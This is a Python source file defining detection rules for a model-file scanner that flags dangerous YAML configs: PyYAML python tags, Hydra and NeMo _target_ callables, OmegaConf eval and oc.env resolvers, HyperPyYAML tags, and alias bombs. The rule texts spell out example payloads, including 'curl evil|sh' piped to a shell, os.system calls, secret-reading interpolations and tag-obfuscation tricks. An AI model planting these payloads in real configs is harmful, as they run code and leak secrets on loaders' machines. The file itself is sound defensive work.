"""Rules of the YAML config analysers (`yaml_config`, `hydra`, `hyperpyyaml`): code that a loader of
the YAML imports and calls, and YAML that cannot be analysed within bounds."""

from __future__ import annotations

from typing import Any, NamedTuple

from modelshield.core.rules import Category, Rule, Severity

PYYAML_TAG = Rule(
    id="YML001",
    title="PyYAML python tag constructs or imports an object",
    severity=Severity.HIGH,
    category=Category.LOAD_TIME_CODE,
    overview="A YAML node carries one of PyYAML's `!!python/...` tags: `python/object/apply:` and "
    "`python/object/new:` import a callable and call it with the node's arguments, `python/object:` "
    "creates an instance and sets its state (calling `__setstate__`), `python/name:` imports and returns "
    "any name, `python/module:` imports a module. `yaml.load` with `Loader`/`UnsafeLoader` (and "
    "`yaml.unsafe_load`) honours all of them; `FullLoader` honours `python/name:`. HyperPyYAML loads "
    "with ruamel.yaml's unsafe `Loader`, and parses every tuple string `(...)` with PyYAML's `Loader`, "
    "so the tags fire there too. The severity is the callable catalogue's verdict on the name.",
    attack='`yaml.load(f, Loader=yaml.Loader)` on `!!python/object/apply:os.system ["curl evil|sh"]` '
    "runs the command while the file is read. Tag handles hide the spelling: `%TAG !p! "
    "tag:yaml.org,2002:python/` then `!p!object/apply:os.system`, a verbatim `!<tag:yaml.org,2002:"
    "python/name:os.system>`, or `%2F` escapes in the tag are all the same tag once parsed, which is how "
    "this analyser reads them.",
    impact="Arbitrary code execution when the YAML is loaded with an unsafe PyYAML or ruamel loader.",
    remediation="Load YAML with `yaml.safe_load` (or ruamel's `YAML(typ='safe')`). Do not load this file "
    "with an unsafe loader; ask the publisher for a config without python tags.",
    example='`model: !!python/object/apply:os.system ["id > /tmp/pwned"]`',
)

HYDRA_TARGET = Rule(
    id="YML002",
    title="Config names a callable that Hydra or NeMo instantiates",
    severity=Severity.MEDIUM,
    category=Category.LOAD_TIME_CODE,
    overview="`hydra.utils.instantiate` imports the dotted path of every mapping's `_target_` and calls "
    "it with the other keys (`_args_` positional, `_partial_: true` returns a `functools.partial` that "
    "the program calls later, `_recursive_` decides whether nested targets are built first). NeMo "
    "restores a `.nemo` archive by instantiating its `model_config.yaml` this way, and also imports the "
    "top-level `target` and the legacy `cls`/`target` + `params` pairs. Targets of the frameworks "
    "themselves (NeMo's allowed prefixes, `torch.nn`, `torch.optim`, Lightning, SpeechBrain) are info; "
    "a target outside them is at least medium, since importing a module runs it; a callable the "
    "catalogue knows to run code, touch the system or load other models takes that severity.",
    attack='A model archive\'s config sets `_target_: os.system` with `_args_: ["curl evil|sh"]`, or '
    "`_target_: builtins.exec`, or a class of an installed package whose constructor downloads and "
    "runs code. Older NeMo and Hydra releases instantiate any importable name; newer ones keep "
    "allowlists that stop direct calls but still accept callables of the framework that load further "
    "files.",
    impact="Arbitrary code execution when the config is instantiated (`restore_from`, `from_pretrained`, "
    "`hydra.utils.instantiate`).",
    remediation="Review every non-framework target. Load untrusted NeMo models only with a NeMo release "
    "that enforces its target allowlist, and never instantiate configs from untrusted sources.",
    example='`encoder: {_target_: os.system, _args_: ["id > /tmp/pwned"]}` in `model_config.yaml`.',
)

RESOLVER = Rule(
    id="YML003",
    title="OmegaConf interpolation calls a resolver that runs code or reads secrets",
    severity=Severity.MEDIUM,
    category=Category.LOAD_TIME_CODE,
    overview="`${name:args}` in an OmegaConf (Hydra, NeMo) config calls the resolver the loading program "
    "registered under `name` when the value is read, and Hydra's `instantiate` reads every value. "
    "OmegaConf's own resolvers only select, decode or create config values, except `oc.env`, which "
    "reads an environment variable into the config; Hydra adds `hydra`, `now` and `python_version`, "
    "NeMo `multiply`, `sum` and `gpu_name`. Many programs register `eval` (or `python`, `exec`) as a "
    "resolver: its argument runs as Python. Any other name is a resolver of the loading program, "
    "unknown here.",
    attack='`${eval:\'__import__("os").system("id")\'}` runs in every program that registered an eval '
    "resolver; `${oc.env:AWS_SECRET_ACCESS_KEY}` copies a secret into a value the config sends "
    "elsewhere (a logger's URL, a download's headers).",
    impact="Code execution through eval-like resolvers; disclosure of environment secrets.",
    remediation="Do not register `eval`-like resolvers in programs that load untrusted configs; review "
    "every interpolation that reads the environment.",
    example='`lr: ${eval:\'__import__("os").system("id") or 0.1\'}`',
)

HYPERPYYAML_TAG = Rule(
    id="YML004",
    title="HyperPyYAML tag imports and calls a Python name",
    severity=Severity.MEDIUM,
    category=Category.LOAD_TIME_CODE,
    overview="HyperPyYAML (SpeechBrain's `load_hyperpyyaml`, used by every `from_hparams`) resolves "
    "`!new:cls` (calls the class with the node's arguments), `!apply:fn` (calls the function), "
    "`!applyref:fn` (calls it while references are resolved), `!name:fn` (imports it; with arguments, a "
    "`functools.partial`) and `!module:mod` (imports it) with `pydoc.locate`, which imports any "
    "module; `!ref <key.attr>` reads an attribute with `getattr`. SpeechBrain's own classes, "
    "`torch.nn`/`torch.optim` and sentencepiece are info; names outside them are at least medium; "
    "the catalogue's dangerous callables and private or dunder attribute walks take their severity.",
    attack='`hyperparams.yaml` in a model repository sets `x: !apply:os.system ["curl evil|sh"]`; '
    "`from_hparams` runs it while the model loads, before any weights are read.",
    impact="Arbitrary code execution when the hyperparameters are loaded.",
    remediation="Review every tag outside SpeechBrain's and PyTorch's namespaces; load hyperparameters "
    "only from repositories you trust, pinned to a reviewed revision.",
    example='`pwn: !apply:os.system ["id > /tmp/pwned"]`',
)

YAML_BOUNDS = Rule(
    id="YML005",
    title="YAML exceeds analysis bounds (alias bomb, deep nesting, size)",
    severity=Severity.HIGH,
    category=Category.ARCHIVE,
    overview="The YAML could not be analysed within bounds: its aliases expand to more nodes than any "
    "config needs (a 'billion laughs' alias bomb, or `<<` merges that multiply), it nests deeper than "
    "the bound, it holds more nodes than the bound, its interpolations expand past the bound, or it is "
    "larger than a config can be. The analysis stops there, so whatever follows is unknown.",
    attack="A few kilobytes of anchors and aliases expand to billions of nodes in every loader that copies "
    "them (OmegaConf, a JSON dump, a recursive walk), exhausting memory; a scanner that expands them "
    "dies, one that gives up silently lets a payload after the bomb pass.",
    impact="Denial of service in the loader; anything past the bound is unanalysed.",
    remediation="Do not load the file. Real configs use a handful of aliases; ask the publisher for the "
    "config without the bomb.",
    example="`a: &a [x, x, x, x, x, x, x, x, x]` then `b: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]` and so "
    "on for nine levels: 10^9 nodes from 1 kB.",
)

YAML_RULES = (PYYAML_TAG, HYDRA_TARGET, RESOLVER, HYPERPYYAML_TAG, YAML_BOUNDS)


class Problem(NamedTuple):
    """One observation of an analyser, before it becomes a finding at the file's location."""

    rule: Rule
    severity: Severity
    evidence: str
    line: int
    details: dict[str, Any] = {}  # noqa: RUF012 - never mutated
